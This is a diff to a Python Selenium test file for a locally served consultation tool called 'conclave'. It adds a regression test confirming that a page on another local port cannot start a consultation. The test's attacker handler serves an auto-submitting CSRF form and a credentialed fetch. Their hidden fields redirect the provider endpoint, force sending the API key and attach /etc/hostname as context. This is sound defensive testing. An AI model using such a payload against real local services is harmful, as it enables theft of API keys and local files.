@@ -6,10 +6,13 @@ opens the page late sees the rounds already played, and a wrong token gets 401. 
 from __future__ import annotations
 
 import asyncio
+import html
+import http.server
 import os
 import sys
+import threading
+import time
 import urllib.error
-import urllib.parse
 import urllib.request
 from collections.abc import Iterator
 from pathlib import Path
@@ -19,6 +22,7 @@ import pytest
 from browser_support import needs_browser, screenshot, serving
 from test_engine_support import AGENT_MODELS, JUDGE_MODEL
 
+from conclave.store.paths import StoreLayout
 from conclave.testing.fake_server import FakeProviderServer, Reply
 from conclave.testing.pytest_plugin import FAKE_KEYS
 from conclave.testing.schema_instances import instance_for
@@ -29,31 +33,83 @@ TOKEN = "browser-test-token"
 
 
 @pytest.fixture
-def served(tmp_path: Path) -> Iterator[str]:
-    """``conclave serve`` as a real process on a free port, with a known token."""
+def served(tmp_path: Path, fake_provider_server: FakeProviderServer) -> Iterator[str]:
+    """``conclave serve`` as a real process on a free port, with a known token; the fake's endpoints, the judge and
+    approval are the server's own command-line overrides."""
     env = {k: v for k, v in os.environ.items() if not k.startswith("CONCLAVE_")}
     env.update(FAKE_KEYS, CONCLAVE_HOME=str(tmp_path), CONCLAVE_WEB_TOKEN=TOKEN, CONCLAVE_PROGRESS="0")
-    with serving([sys.executable, "-m", "conclave", "serve", "--port", "{port}"], f"/?token={TOKEN}", env=env,
-                 cwd=tmp_path) as url:
+    command = [sys.executable, "-m", "conclave", "serve", "--port", "{port}", *fake_provider_server.overrides(),
+               f"judge.model={JUDGE_MODEL}", "cost.auto_approve=true"]
+    with serving(command, f"/?token={TOKEN}", env=env, cwd=tmp_path) as url:
         yield url
 
 
-def _start(base: str, fake: FakeProviderServer) -> str:
-    """Start a consultation through the page's form; the id it redirects to."""
-    overrides = "\n".join([*fake.overrides(), f"judge.model={JUDGE_MODEL}", "cost.auto_approve=true", "rounds=2"])
-    body = urllib.parse.urlencode({"question": "Should we watch it live?", "overrides": overrides}).encode()
+def _start(base: str, browser: Any) -> str:
+    """Start a consultation through the page's form, as a person does; the id it redirects to."""
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.support.ui import Select
 
-    class NoRedirect(urllib.request.HTTPRedirectHandler):
-        def redirect_request(self, *args: Any) -> None:
-            return None
+    browser.get(f"{base}/?token={TOKEN}")
+    browser.find_element(By.NAME, "question").send_keys("Should we watch it live?")
+    Select(browser.find_element(By.NAME, "rounds")).select_by_value("2")
+    browser.find_element(By.CSS_SELECTOR, "form.start button").click()
+    for _ in range(600):
+        if "/c/" in browser.current_url:
+            return str(browser.current_url).split("/c/")[1].split("?")[0]
+        time.sleep(0.1)
+    raise AssertionError("the form did not lead to the consultation's page")
 
-    opener = urllib.request.build_opener(NoRedirect)
+
+class _AttackerPage(http.server.BaseHTTPRequestHandler):
+    """Another local server's page (a dev server, a notebook) that submits conclave's start form with its own
+    fields: an endpoint of its choosing with send_key=always, a local file as context, approval."""
+
+    target = ""
+
+    def do_GET(self) -> None:
+        fields = {"question": "Anything?", "overrides": "providers.openai.base_url=http://127.0.0.1:9/v1\n"
+                  "providers.openai.send_key=always\ncontext=[/etc/hostname]", "approve": "yes",
+                  "panel": "default", "csrf": "guessed"}
+        inputs = "".join(f"<input type=hidden name={k} value='{html.escape(v)}'>" for k, v in fields.items())
+        body = (f"<!doctype html><body><p>innocent page</p><form id=f method=post action='{self.target}/consult'>"
+                f"{inputs}</form><script>fetch('{self.target}/consult', {{method: 'POST', mode: 'no-cors', "
+                "credentials: 'include', body: new URLSearchParams({question: 'fetch?'})}).finally(() => "
+                "document.getElementById('f').submit());</script></body>").encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args: Any) -> None:
+        pass
+
+
+def test_a_page_on_another_local_port_cannot_start_a_consultation(
+    served: str, browser: Any, fake_provider_server: FakeProviderServer, tmp_path: Path
+) -> None:
+    """The review's CSRF exploit in a real browser: the user's token cookie is set (they opened the view), then a
+    page served on another 127.0.0.1 port submits the start form. Nothing starts and nothing is sent."""
+    browser.get(f"{served}/?token={TOKEN}")
+    _AttackerPage.target = served
+    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _AttackerPage)
+    thread = threading.Thread(target=attacker.serve_forever, daemon=True)
+    thread.start()
     try:
-        opener.open(urllib.request.Request(f"{base}/consult?token={TOKEN}", data=body), timeout=60)
-    except urllib.error.HTTPError as redirect:
-        assert redirect.code == 303, redirect.read()
-        return str(redirect.headers["Location"]).removeprefix("/c/")
-    raise AssertionError("the form did not redirect to the consultation")
+        browser.get(f"http://127.0.0.1:{attacker.server_address[1]}/")
+        for _ in range(100):
+            if browser.current_url.startswith(served):
+                break
+            time.sleep(0.1)
+        text = browser.find_element("tag name", "body").text
+        screenshot(browser, "live_csrf_refused")
+    finally:
+        attacker.shutdown()
+    assert browser.current_url.startswith(f"{served}/consult") and text.startswith("403")
+    time.sleep(0.5)
+    journal_dir = StoreLayout(tmp_path).journal_dir
+    assert not (journal_dir.is_dir() and list(journal_dir.glob("*.jsonl")))
+    assert fake_provider_server.requests == []
 
 
 async def test_the_live_page_shows_rounds_while_they_run_and_to_late_joiners(
@@ -63,8 +119,7 @@ async def test_the_live_page_shows_rounds_while_they_run_and_to_late_joiners(
 
     for model in [*AGENT_MODELS.values(), JUDGE_MODEL]:
         fake_provider_server.script(model, lambda r: Reply(json=instance_for(r.schema), latency=1.5))
-    cid = await asyncio.to_thread(_start, served, fake_provider_server)
-    await asyncio.to_thread(browser.get, f"{served}/c/{cid}?token={TOKEN}")
+    cid = await asyncio.to_thread(_start, served, browser)
 
     def rounds() -> list[str]:
         found: list[str] = browser.execute_script(
@@ -112,4 +167,4 @@ def test_a_wrong_token_gets_401(served: str) -> None:
             urllib.request.urlopen(f"{served}{path}?token=not-it", timeout=10)
         assert refused.value.code == 401
     listing = urllib.request.urlopen(f"{served}/?token={TOKEN}", timeout=10).read().decode()
-    assert "<form method=post action=/consult>" in listing
+    assert "<form method=post action=/consult class=start>" in listing
